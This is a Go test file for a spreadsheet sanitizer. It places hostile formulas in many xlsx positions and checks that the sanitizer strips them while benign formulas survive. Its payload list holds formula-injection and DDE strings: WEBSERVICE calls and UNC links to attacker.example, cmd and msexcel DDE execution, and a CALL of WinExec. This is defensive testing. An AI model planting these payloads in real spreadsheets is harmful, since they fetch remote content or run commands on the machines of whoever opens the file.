package ooxml

import (
	"bytes"
	"encoding/xml"
	"strings"
	"testing"

	"github.com/sekisho/sekisho/sanitize"
)

// The variant generator for spreadsheets: every payload class in every position where
// Excel or LibreOffice reads a formula, built from the real ledger files, and judged by
// python3 and LibreOffice (judge_test.go). Each position also carries a benign formula
// that must come through unchanged, so that over-blocking fails too.

// payload is one hostile formula and a word of it that must not survive anywhere.
type payload struct {
	name, f, marker string
}

var excelPayloads = []payload{
	{"webservice", `WEBSERVICE("http://attacker.example/w")`, "attacker.example"},
	{"webservice-prefixed", `_xlfn.WEBSERVICE("http://attacker.example/w")`, "attacker.example"},
	{"webservice-lowercase", `webservice("http://attacker.example/w")`, "attacker.example"},
	{"webservice-nested", `IF(ISERROR(1),0,NOT(ISERROR(WEBSERVICE("http://attacker.example/w"))))`, "attacker.example"},
	{"dde", `cmd|' /c attackercmd'!A0`, "attackercmd"},
	{"dde-msexcel", `msexcel|'\..\..\Windows\System32\attackercmd.exe /c calc'!''`, "attackercmd"},
	{"unc-hyperlink", `HYPERLINK("\\attacker.example\share\x.exe","x")`, "attacker.example"},
	{"external-book", `SUM([1]AttackerSheet!A1:A3)`, "AttackerSheet"},
	{"external-path", `'C:\attacker\[book.xlsx]Sheet1'!A1`, "attacker"},
	{"user-defined", `_xludf.AttackerFunc(1)`, "AttackerFunc"},
	{"call", `CALL("attackerlib","WinExec","JCJ","calc",0)`, "attackerlib"},
	{"rtd", `RTD("attacker.prog",,"x")`, "attacker.prog"},
	{"indirect-file", `INDIRECT("'file:///attacker.example/x.ods'#$Sheet1.A1")`, "attacker.example"},
	{"filterxml", `FILTERXML("<a>attackerxml</a>","//a")`, "attackerxml"},
}

// sheetPosition is a place of an xlsx where a formula is read.
type sheetPosition struct {
	name   string
	benign string // a formula that must stay
	edits  func(f string) []edit
}

// positionGone is what must appear in no output part once a payload is removed: the cells
// sharing a removed master formula go with it.
var positionGone = map[string]string{"shared-formula": `si="7"`}

const (
	sheet1     = "xl/worksheets/sheet1.xml"
	sheet1Rels = "xl/worksheets/_rels/sheet1.xml.rels"
	rowOneEnd  = `<c r="B1" s="0" t="s"><v>1</v></c></row>`
	rowTwoEnd  = `<c r="B2" s="0" t="n"><v>1500</v></c></row>`
	beforePO   = `<printOptions `
	afterHF    = `</headerFooter>`
	relsOpen   = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	nsXMDecl   = ` xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"`
)

// escText escapes s for element content, escAttr for a double-quoted attribute.
func escText(s string) string {
	var b bytes.Buffer
	xml.EscapeText(&b, []byte(s))
	return b.String()
}

func escAttr(s string) string { return escText(s) } // xml.EscapeText escapes quotes too

// sheetRel adds the only relationship of sheet1 (ledger.xlsx's sheet has none).
func sheetRel(id, typ, target string) edit {
	return add(sheet1Rels, relsOpen+`<Relationship Id="`+id+`" Type="`+typ+`" Target="`+target+`"/></Relationships>`)
}

func sheetPositions() []sheetPosition {
	ins := func(anchor, snippet string) edit { return replace(sheet1, anchor, snippet+anchor) }
	after := func(anchor, snippet string) edit { return replace(sheet1, anchor, anchor+snippet) }
	return []sheetPosition{
		{"cell", "SUM(B2:B3)", func(f string) []edit {
			return []edit{replace(sheet1, rowOneEnd, `<c r="B1" s="0" t="s"><v>1</v></c><c r="C1"><f>`+escText(f)+`</f><v>0</v></c></row>`)}
		}},
		{"shared-formula", "B2*2", func(f string) []edit {
			return []edit{
				replace(sheet1, rowOneEnd, `<c r="B1" s="0" t="s"><v>1</v></c><c r="C1"><f t="shared" ref="C1:C2" si="7">`+escText(f)+`</f><v>0</v></c></row>`),
				replace(sheet1, rowTwoEnd, `<c r="B2" s="0" t="n"><v>1500</v></c><c r="C2"><f t="shared" si="7"/><v>0</v></c></row>`),
			}
		}},
		{"array-formula", "SUM(B2:B3*2)", func(f string) []edit {
			return []edit{replace(sheet1, rowOneEnd, `<c r="B1" s="0" t="s"><v>1</v></c><c r="C1"><f t="array" ref="C1">`+escText(f)+`</f><v>0</v></c></row>`)}
		}},
		{"defined-name", "Ledger!$B$2:$B$3", func(f string) []edit {
			return []edit{replace(wbMain, `</sheets>`, `</sheets><definedNames><definedName name="Payload">`+escText(f)+`</definedName></definedNames>`)}
		}},
		{"conditional-format", "B2&gt;1000", func(f string) []edit {
			return []edit{ins(beforePO, `<conditionalFormatting sqref="B2:B4"><cfRule type="expression" priority="1"><formula>`+escText(f)+`</formula></cfRule></conditionalFormatting>`)}
		}},
		{"color-scale-value", "1000", func(f string) []edit {
			return []edit{ins(beforePO, `<conditionalFormatting sqref="B2:B4"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="`+escAttr(f)+`"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>`)}
		}},
		{"data-validation", "B2&gt;0", func(f string) []edit {
			return []edit{ins(beforePO, `<dataValidations count="1"><dataValidation type="custom" allowBlank="1" sqref="B2"><formula1>`+escText(f)+`</formula1></dataValidation></dataValidations>`)}
		}},
		{"data-validation-second", "10000", func(f string) []edit {
			return []edit{ins(beforePO, `<dataValidations count="1"><dataValidation type="whole" operator="between" sqref="B2"><formula1>0</formula1><formula2>`+escText(f)+`</formula2></dataValidation></dataValidations>`)}
		}},
		{"hyperlink-location", "Ledger!A1", func(f string) []edit {
			return []edit{ins(beforePO, `<hyperlinks><hyperlink ref="A1" location="`+escAttr(f)+`" display="go"/></hyperlinks>`)}
		}},
		{"x14-conditional-format", "Ledger!$B$2&gt;1000", func(f string) []edit {
			return []edit{replace(sheet1, `</worksheet>`, `<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting`+nsXMDecl+`><x14:cfRule type="expression" priority="2" id="{00000000-0000-0000-0000-000000000001}"><xm:f>`+escText(f)+`</xm:f><x14:dxf/></x14:cfRule><xm:sqref>B2:B4</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>`)}
		}},
		{"x14-data-validation", "Ledger!$A$2:$A$3", func(f string) []edit {
			return []edit{replace(sheet1, `</worksheet>`, `<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations`+nsXMDecl+` count="1"><x14:dataValidation type="list" allowBlank="1"><x14:formula1><xm:f>`+escText(f)+`</xm:f></x14:formula1><xm:sqref>A2</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>`)}
		}},
		{"x14-sparkline", "Ledger!B2:B4", func(f string) []edit {
			return []edit{replace(sheet1, `</worksheet>`, `<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}"><x14:sparklineGroups`+nsXMDecl+`><x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries rgb="FF376092"/><x14:sparklines><x14:sparkline><xm:f>`+escText(f)+`</xm:f><xm:sqref>C4</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst></worksheet>`)}
		}},
		{"table-column", "[@Amount]*2", func(f string) []edit {
			return tableEdits(`<calculatedColumnFormula>` + escText(f) + `</calculatedColumnFormula>`)
		}},
		{"table-totals", "SUBTOTAL(109,[Amount])", func(f string) []edit {
			return tableEdits(`<totalsRowFormula>` + escText(f) + `</totalsRowFormula>`)
		}},
		{"pivot-calculated-field", "Amount*2", func(f string) []edit {
			body := `<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + relBase[:len(relBase)-1] + `" recordCount="0"><cacheSource type="worksheet"><worksheetSource ref="A1:B4" sheet="Ledger"/></cacheSource><cacheFields count="2"><cacheField name="Account" numFmtId="0"><sharedItems/></cacheField><cacheField name="Double" numFmtId="0" formula="` + escAttr(f) + `" databaseField="0"/></cacheFields></pivotCacheDefinition>`
			return []edit{
				addType("xl/pivotCache/pivotCacheDefinition1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"),
				add("xl/pivotCache/pivotCacheDefinition1.xml", body),
				addRel(wbRels, "rId90", relBase+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", ""),
				replace(wbMain, `<extLst>`, `<pivotCaches><pivotCache cacheId="1" r:id="rId90"/></pivotCaches><extLst>`),
			}
		}},
		{"vml-form-control", "$B$2", func(f string) []edit {
			return []edit{
				addType("ext:vml", "application/vnd.openxmlformats-officedocument.vmlDrawing"),
				add("xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t201" style="position:absolute;width:60pt;height:15pt"><v:textbox><div>Check</div></v:textbox><x:ClientData ObjectType="Checkbox"><x:FmlaLink>`+escText(f)+`</x:FmlaLink></x:ClientData></v:shape></xml>`),
				sheetRel("rId91", relBase+"vmlDrawing", "../drawings/vmlDrawing1.vml"),
				after(afterHF, `<legacyDrawing r:id="rId91"/>`),
			}
		}},
		{"form-control-properties", "$B$2", func(f string) []edit {
			return []edit{
				addType("xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml"),
				add("xl/ctrlProps/ctrlProp1.xml", `<?xml version="1.0" encoding="UTF-8"?><formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="CheckBox" fmlaLink="`+escAttr(f)+`"/>`),
				sheetRel("rId92", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/ctrlProp", "../ctrlProps/ctrlProp1.xml"),
			}
		}},
		{"shape-text-link", "$A$2", func(f string) []edit {
			return drawingEdits(`<xdr:sp macro="" textlink="`+escAttr(f)+`"><xdr:nvSpPr><xdr:cNvPr id="2" name="Box"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp>`, nil)
		}},
		{"chart-series", "Ledger!$B$2:$B$3", func(f string) []edit {
			frame := `<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="3" name="Chart"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame>`
			chart := `<?xml version="1.0" encoding="UTF-8"?><c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>` + escText(f) + `</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="2"/><c:pt idx="0"><c:v>1500</c:v></c:pt><c:pt idx="1"><c:v>320</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="b"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart></c:chartSpace>`
			return drawingEdits(frame, []edit{
				addType("xl/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"),
				add("xl/charts/chart1.xml", chart),
				add("xl/drawings/_rels/drawing1.xml.rels", relsOpen+`<Relationship Id="rId1" Type="`+relBase+`chart" Target="../charts/chart1.xml"/></Relationships>`),
			})
		}},
	}
}

// tableEdits adds a table over the ledger with one column carrying col.
func tableEdits(col string) []edit {
	body := `<?xml version="1.0" encoding="UTF-8"?><table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="Ledger1" displayName="Ledger1" ref="A1:B4" totalsRowShown="0"><autoFilter ref="A1:B4"/><tableColumns count="2"><tableColumn id="1" name="Account"/><tableColumn id="2" name="Amount">` + col + `</tableColumn></tableColumns><tableStyleInfo name="TableStyleMedium2" showRowStripes="1"/></table>`
	return []edit{
		addType("xl/tables/table1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"),
		add("xl/tables/table1.xml", body),
		sheetRel("rId93", relBase+"table", "../tables/table1.xml"),
		replace(sheet1, afterHF, afterHF+`<tableParts count="1"><tablePart r:id="rId93"/></tableParts>`),
	}
}

// drawingEdits adds a drawing to sheet1 holding one anchored object.
func drawingEdits(object string, more []edit) []edit {
	body := `<?xml version="1.0" encoding="UTF-8"?><xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + relBase[:len(relBase)-1] + `"><xdr:twoCellAnchor><xdr:from><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>6</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>8</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>` + object + `<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>`
	return append([]edit{
		addType("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml"),
		add("xl/drawings/drawing1.xml", body),
		sheetRel("rId94", relBase+"drawing", "../drawings/drawing1.xml"),
		replace(sheet1, afterHF, afterHF+`<drawing r:id="rId94"/>`),
	}, more...)
}

// TestSheetVariants sanitizes every payload in every position and judges the outputs;
// the benign formula of each position must come through.
func TestSheetVariants(t *testing.T) {
	t.Parallel() // LibreOffice round trips: each has its own profile
	_, s := newEngine(true)
	var items []judged
	for _, pos := range sheetPositions() {
		in := build(t, "ooxml/ledger.xlsx", pos.edits(strings.ReplaceAll(pos.benign, "&gt;", ">"))...)
		out, res, err := sanitizeBytes(t, s, "benign.xlsx", in)
		if err != nil {
			t.Fatalf("%s: benign: %v", pos.name, err)
		}
		for _, a := range res.Actions {
			if a.Kind != sanitize.ActRemovedMetadata {
				t.Errorf("%s: benign formula %q: action %+v, want none", pos.name, pos.benign, a)
			}
		}
		if !partsContain(t, out, pos.benign) {
			t.Errorf("%s: benign formula %q did not come through", pos.name, pos.benign)
		}
		for _, p := range excelPayloads {
			name := pos.name + "-" + p.name
			in := build(t, "ooxml/ledger.xlsx", pos.edits(p.f)...)
			out, res, err := sanitizeBytes(t, s, name+".xlsx", in)
			if err != nil {
				t.Errorf("%s: %v", name, err)
				continue
			}
			if !hasFormulaAction(res) {
				t.Errorf("%s: no formula removal reported: %+v", name, res.Actions)
			}
			if g := positionGone[pos.name]; g != "" && partsContain(t, out, g) {
				t.Errorf("%s: output still has %s", name, g)
			}
			items = append(items, judged{name: uniq(len(items), name+".xlsx"), data: out, markers: []string{p.marker}, text: []string{"Rent", "1820"}})
		}
	}
	judge(t, items)
}

// hasFormulaAction reports a removal of a formula, a link or DDE.
func hasFormulaAction(res sanitize.Result) bool {
	for _, a := range res.Actions {
		switch a.Kind {
		case sanitize.ActRemovedDDE, sanitize.ActRemovedExternalLink, sanitize.ActNeutralizedFormula:
			return true
		}
	}
	return false
}

// partsContain reports whether any XML part of a package holds s (escaped as written).
func partsContain(t testing.TB, pkg []byte, s string) bool {
	t.Helper()
	for _, body := range readParts(t, pkg) {
		if strings.Contains(body, s) {
			return true
		}
	}
	return false
}
